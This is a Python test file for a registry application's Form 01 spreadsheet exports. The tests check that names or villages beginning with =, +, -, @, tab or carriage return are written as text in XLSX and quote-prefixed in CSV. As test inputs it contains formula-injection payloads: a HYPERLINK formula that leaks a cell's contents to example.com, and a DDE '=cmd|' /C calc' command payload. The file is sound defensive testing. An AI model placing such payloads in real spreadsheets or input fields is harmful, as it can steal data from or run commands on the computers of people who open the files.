"""A Form 01 download never carries a live formula: a name or a village starting with = + - @ (or a tab or carriage
return) is written as text, in the XLSX as an explicit string cell with the same visible text, in the CSV behind a
single quote; ordinary cells are unchanged."""

import csv
import io

import pytest
from openpyxl import load_workbook

from hoanhap_registry.api.form01_sheets import as_csv, as_xlsx

HOSTILE_NAMES = ['=HYPERLINK("http://example.com/?d="&A1,"Bình")', "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1",
                 "\r=1+1"]
NAME, PLACE = 1, 3


def listing(full_name: str, village: str | None = "Thôn 3") -> dict:
    return {"commune_code": "00004", "province_code": "01",
            "rows": [{"row_number": 1, "full_name": full_name, "birth_year": 1990, "village": village,
                      "release_type": "completed_sentence", "completed_on": "2025-03-04"}]}


def xlsx_row(sheet_listing: dict) -> tuple:
    workbook = load_workbook(io.BytesIO(as_xlsx(sheet_listing)))
    return tuple(workbook["Mẫu 01"].iter_rows(min_row=2, max_row=2))[0]


def csv_row(sheet_listing: dict) -> list[str]:
    return list(csv.reader(io.StringIO(as_csv(sheet_listing).decode("utf-8-sig"), newline="")))[1]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_name_that_could_be_a_formula_is_a_text_cell_in_the_workbook(name):
    cells = xlsx_row(listing(name))

    assert cells[NAME].data_type == "s" and cells[NAME].value == name.replace("\r", "\n")  # XML reads CR as LF


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_name_that_could_be_a_formula_starts_with_a_quote_in_the_csv(name):
    assert csv_row(listing(name))[NAME] == f"'{name}"


def test_a_village_that_could_be_a_formula_is_text_in_both():
    village = "=cmd|' /C calc'!A0"

    assert xlsx_row(listing("Nguyễn Văn Bình", village))[PLACE].data_type == "s"
    assert csv_row(listing("Nguyễn Văn Bình", village))[PLACE].startswith(f"'{village}")


def test_ordinary_cells_are_written_as_they_are():
    cells = xlsx_row(listing("Nguyễn Văn Bình"))

    assert [cell.value for cell in cells[:3]] == [1, "Nguyễn Văn Bình", 1990] and cells[0].data_type == "n"
    assert csv_row(listing("Nguyễn Văn Bình"))[:3] == ["1", "Nguyễn Văn Bình", "1990"]
